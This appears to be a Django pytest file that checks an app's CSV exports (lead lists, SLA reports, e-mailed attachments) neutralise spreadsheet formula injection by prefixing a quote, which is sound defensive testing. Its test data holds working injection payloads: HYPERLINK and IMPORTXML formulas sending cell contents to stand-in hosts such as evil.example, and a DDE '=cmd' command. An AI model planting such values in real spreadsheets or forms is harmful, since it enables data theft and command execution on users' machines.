"""Issue 13: every CSV the app writes neutralises spreadsheet formulas (one helper for all)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from leads import services as lead_services
from leads.models import CaptureForm, Lead
from reporting.exports import report_export
from reporting.services import report_compute
from slas.models import SLA
from slas.tests.factories import make_sla
from smarketing.spreadsheets import csv_writer, neutralise

pytestmark = pytest.mark.django_db
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["plain", "", "a=b", "x-1", -12, 3.5, None, "'already quoted"])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def test_the_writer_quotes_every_cell_of_every_row():
    buffer = io.StringIO()
    csv_writer(buffer).writerows([["=1+1", "ok"], ["@x", -5]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "ok"], ["'@x", "-5"]]


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def test_a_formula_planted_through_the_capture_form_goes_out_inert_in_the_lead_export(roles, client):
    CaptureForm.objects.create(slug="contact", name="Contact", team=roles.marketing)
    client.post(
        reverse("capture", args=["contact"]),
        {
            "first_name": PAYLOADS[0],
            "last_name": "@SUM(1)",
            "email": "evil@example.com",
            "company": "=cmd|' /C calc'!A0",
            "consent_to_contact": "on",
        },
    )
    assert Lead.objects.filter(email="evil@example.com").exists()
    client.force_login(roles.viewer)
    cells = _cells(client.get(reverse("leads:list"), {"export": "csv"}).content)
    assert "'" + PAYLOADS[0] in cells and "'@SUM(1)" in cells and "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_report_csv_and_the_e_mailed_csv_neutralise_the_sla_title_and_values(roles, client):
    sla = make_sla(roles.marketing, roles.sales, status=SLA.Status.ACTIVE)
    SLA.objects.filter(pk=sla.pk).update(title='=IMPORTXML(CONCAT("http://evil/",A1),"//a")')
    lead_services.lead_create(data={"email": "r@example.com"}, team=roles.marketing, by=roles.mkt_member)
    report = report_compute(sla=SLA.objects.get(pk=sla.pk), month=dt.date(2026, 3, 1))
    client.force_login(roles.viewer)
    page = client.get(reverse("reporting:report_csv", args=[report.pk]), {"table": "summary", "sep": "comma"})
    cells = _cells(page.content.decode("utf-8-sig").encode())
    assert '\'=IMPORTXML(CONCAT("http://evil/",A1),"//a")' in cells
    # The e-mailed attachment is the same export (``reporting.exports``).
    emailed = report_export(report, "csv", table="summary", params={"sep": "comma"}).content
    assert '\'=IMPORTXML(CONCAT("http://evil/",A1),"//a")' in _cells(emailed.decode("utf-8-sig").encode())
